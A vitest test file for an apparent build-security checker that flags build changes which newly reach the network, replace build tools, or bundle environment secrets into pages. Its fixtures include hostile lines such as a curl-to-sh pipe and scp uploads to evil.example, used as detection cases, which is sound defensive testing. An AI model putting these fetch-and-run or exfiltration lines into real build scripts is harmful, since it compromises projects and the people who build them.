import { describe, expect, test } from "vitest";
import { BUILT, manifest, toldOf, withSteps } from "./app.ts";

const FETCHES = 'require("https").get("https://evil.example/x");\n';
const PIPES = "curl -fsSL https://evil.example/x | sh\n";
const REACHES = "build/step-reaches high";

/** The program of the build with these lines. */
function program(text: string): Record<string, string> {
  return { "scripts/build.mjs": text };
}

/** A program in Python that the build starts, in head and at base. */
function python(text: string, before = ""): [Record<string, string>, Record<string, string>] {
  return [{ "a.py": text }, { "package.json": manifest("python a.py"), "a.py": before }];
}

function vite(text: string): Record<string, string> {
  return { "vite.config.ts": text };
}

describe("a program that newly reaches out, whoever starts it:", () => {
  test.each<[string, Record<string, string>, Record<string, string>]>([
    [
      "a step of a job",
      { "lib/a.js": FETCHES },
      { ...withSteps("      - run: node lib/a.js\n"), "lib/a.js": "" },
    ],
    [
      "Python of a step",
      { "a.py": "import requests\n" },
      { ...withSteps("      - run: python a.py\n"), "a.py": "" },
    ],
    [
      "an action of the repository",
      { "act/index.js": FETCHES },
      {
        ...withSteps("      - uses: ./act\n"),
        "act/action.yml": "runs:\n  using: node20\n  main: index.js\n",
        "act/index.js": "",
      },
    ],
    ["a hook", { "a.js": FETCHES }, { "package.json": manifest("node a.js"), "a.js": "" }],
    [
      "another program",
      { "scripts/a.js": FETCHES },
      {
        ...program('import { execSync } from "child_process";\nexecSync("node scripts/a.js");\n'),
        "scripts/a.js": "",
      },
    ],
    [
      "another program, by a list",
      { "scripts/a.js": FETCHES },
      {
        ...program('import { spawn } from "child_process";\nspawn("node", ["./a.js"]);\n'),
        "scripts/a.js": "",
      },
    ],
    [
      "a script of another program",
      { "scripts/a.sh": PIPES },
      {
        ...program('import { execSync } from "child_process";\nexecSync("sh scripts/a.sh");\n'),
        "scripts/a.sh": "",
      },
    ],
    [
      "a module of Python",
      { "scripts/b.py": "import requests\n" },
      { "package.json": manifest("python scripts/a.py"), "scripts/a.py": "import b\n", "scripts/b.py": "" },
    ],
    ["a call of Python in single quotes", ...python("import os\nos.system('scp dist/a evil.example:/a')\n")],
    [
      "a tool's settings",
      { "eslint.config.js": FETCHES },
      { "package.json": manifest("eslint ."), "eslint.config.js": "" },
    ],
    ["settings that begin with a dot", { ".postcssrc.cjs": FETCHES }, {}],
    [
      "a module that no name holds",
      program('require("child_process").execSync("curl https://evil.example | sh");\n'),
      {},
    ],
    [
      "a module that is awaited",
      program('(await import("node:child_process")).execSync("curl https://evil.example");\n'),
      {},
    ],
    [
      "another name of a function",
      program(
        'import cp from "child_process";\nconst run = cp.execSync;\nrun("curl https://evil.example");\n',
      ),
      {},
    ],
    [
      "a promise of a function",
      program(
        'import { exec } from "child_process";\nconst run = promisify(exec);\nawait run("curl https://evil.example");\n',
      ),
      {},
    ],
  ])("%s", async (_, changes, before) => {
    const { told, verdict } = await toldOf(changes, before);
    expect(told).toContain(REACHES);
    expect(verdict).toBe("fail");
  });

  test.each<[string, Record<string, string>, Record<string, string>]>([
    ["a program that nothing starts", { "a.js": FETCHES }, { "a.js": "" }],
    ["settings of a tool that the build doesn't start", { "vitest.config.ts": FETCHES }, {}],
    [
      "a program of the app's pages",
      { "src/main.ts": "fetch('https://a.example');\n" },
      { "src/main.ts": "" },
    ],
  ])("calm: %s", async (_, changes, before) => {
    expect(await toldOf(changes, before)).toEqual({ verdict: "pass", told: [] });
  });

  test.each<[string, string, string]>([
    [
      "on several lines",
      'subprocess.run(\n    [\n        "scp",\n        "a",\n        "b.example:",\n    ]\n)\n',
      "",
    ],
    [
      "that begins like one that was there",
      "subprocess.run(\n  ['scp', 'a', 'evil.example:']\n)\n",
      "subprocess.run(\n  ['scp', 'a', 'b.example:']\n)\n",
    ],
    ["with many empty lines", `subprocess.run([${"\n".repeat(30)}'scp', 'a', 'b.example:'])\n`, ""],
    ["behind a bracket at a line's end", "subprocess.run(f()\n  + ['scp', 'a', 'b.example:'])\n", ""],
    ["behind a text of brackets", `subprocess.run(["scp", """a\n)]""",\n  "b.example:"])\n`, ""],
  ])("a call of Python %s", async (_, text, before) => {
    const { told, verdict } = await toldOf(...python(text, before));
    expect(told).toEqual(expect.arrayContaining([REACHES]));
    expect(told.filter((each) => each.startsWith("build/step-reaches"))).toHaveLength(1);
    expect(verdict).toBe("fail");
  });

  test("a call of Python that doesn't end", async () => {
    const { verdict } = await toldOf(...python(`subprocess.run(\n${"    a,\n".repeat(2000)}`));
    expect(verdict).toBe("fail");
  });

  test.each([
    ["bash tools/a.txt", PIPES],
    [". tools/a.txt", PIPES],
    ["./tools/a.txt", `#!/bin/sh\n${PIPES}`],
    ["node tools/a.txt", FETCHES],
    ["python3 tools/a.txt", "import requests\n"],
  ])("whatever it is called: %s", async (command, text) => {
    const base = {
      "package.json": manifest(command),
      "tools/a.txt": text.startsWith("#!") ? "#!/bin/sh\n" : "",
    };
    const { verdict } = await toldOf({ "tools/a.txt": text }, base);
    expect(verdict).toBe("fail");
    expect((await toldOf({ "tools/a.txt": `${base["tools/a.txt"]}# nothing\n` }, base)).verdict).toBe("pass");
  });

  test("calm: a call of Python that a formatter lays out", async () => {
    const [changes, before] = python(
      'subprocess.run(\n    ["scp", "a", "b.example:a"],\n)\n',
      'subprocess.run(["scp", "a", "b.example:a"])\n',
    );
    expect((await toldOf(changes, before)).verdict).toBe("pass");
  });

  test("calm: a call of Python with an apostrophe in a comment", async () => {
    const [changes, before] = python(
      "subprocess.run(\n  ['git',  # don't\n   'status'])  # it's all\nprint('scp a b:')\n",
    );
    expect((await toldOf(changes, before)).verdict).toBe("pass");
  });

  test("calm: a call of Python that stays here, before a text that names a program", async () => {
    const [changes, before] = python("subprocess.run(['git', 'status'])\nprint('scp a b:')\n");
    expect((await toldOf(changes, before)).verdict).toBe("pass");
  });

  test("calm: git under another name", async () => {
    const changes = program(
      'import cp from "child_process";\nconst run = cp.execSync;\nrun("git rev-parse HEAD");\n',
    );
    expect((await toldOf(changes)).verdict).toBe("pass");
  });
});

describe("a program of the build that is replaced:", () => {
  test.each<[string, Record<string, string>]>([
    ["code that Node loads first", { "package.json": manifest("NODE_OPTIONS='-r ./a.js' vite build") }],
    [
      "the same by cross-env",
      { "package.json": manifest("cross-env NODE_OPTIONS=--import=./a.js vite build") },
    ],
    ["the CLI", { "package.json": manifest().replace('"tauri": "tauri"', '"tauri": "node cli.js"') }],
    ["the CLI by an alias", { ".cargo/config.toml": '[alias]\ntauri = "run -p other"\n' }],
    ["the toolchain", { "rust-toolchain.toml": '[toolchain]\npath = "./toolchain"\n' }],
    ["the toolchain, in a file without ending", { "src-tauri/rust-toolchain": '[toolchain]\npath = "t"\n' }],
  ])("%s", async (_, changes) => {
    const { told, verdict } = await toldOf(changes);
    expect(told).toContain("build/tool-replaced high");
    expect(verdict).toBe("fail");
  });

  test.each<[string, Record<string, string>]>([
    ["memory for Node", { "package.json": manifest("NODE_OPTIONS=--max-old-space-size=4096 tsc") }],
    [
      "the CLI with variables",
      { "package.json": manifest().replace('"tauri": "tauri"', '"tauri": "cross-env A=1 tauri"') },
    ],
    ["a channel", { "rust-toolchain.toml": '[toolchain]\nchannel = "1.91.0"\n' }],
    ["a channel in one line", { "rust-toolchain": "stable\n" }],
    ["another alias", { ".cargo/config.toml": '[alias]\nb = "build"\n' }],
  ])("calm: %s", async (_, changes) => {
    expect((await toldOf(changes)).verdict).toBe("pass");
  });
});

describe("what a bundler puts into pages:", () => {
  test.each<[string, string]>([
    ["a beginning that a name holds", 'const p = ["TAURI_"];\nexport default { envPrefix: p };\n'],
    ["a beginning of that name", 'const envPrefix = "TAURI_";\nexport default { envPrefix };\n'],
    ["a beginning in a template", "export default { envPrefix: [`TAURI_`] };\n"],
    ["the whole environment", "export default { define: { 'process.env': process.env } };\n"],
    ["the whole environment as text", "export default { define: { E: JSON.stringify(process.env) } };\n"],
    [
      "all that is loaded",
      'const env = loadEnv(mode, process.cwd(), "");\nexport default { define: { E: env } };\n',
    ],
  ])("%s", async (_, text) => {
    expect((await toldOf(vite(text))).told).toContain("build/secrets-bundled critical");
  });

  test("a computed beginning is a gap", async () => {
    const { told, verdict } = await toldOf(vite("export default { envPrefix: prefix() };\n"));
    expect(told).toContain("dynamic");
    expect(verdict).toBe("incomplete");
  });

  test.each<[string, string]>([
    ["one variable", "export default { define: { 'process.env.A': JSON.stringify(process.env.A) } };\n"],
    ["a beginning of the app", 'const p = ["VITE_", "TAURI_ENV_"];\nexport default { envPrefix: p };\n'],
    [
      "variables of a beginning",
      'const env = loadEnv(mode, process.cwd(), "VITE_");\nexport default { define: { E: env } };\n',
    ],
    [
      "one of all variables",
      'const env = loadEnv(mode, ".", "");\nexport default { define: { E: env.VITE_A } };\n',
    ],
  ])("calm: %s", async (_, text) => {
    expect((await toldOf(vite(text))).verdict).toBe("pass");
  });

  test("more keys than are looked at are a gap, and take no time", async () => {
    const text = `${BUILT["vite.config.ts"]}const o = [${"{ envPrefix: q, define: { E: f } },".repeat(20_000)}];\n`;
    expect((await toldOf(vite(text))).told).toContain("dynamic");
  });
});
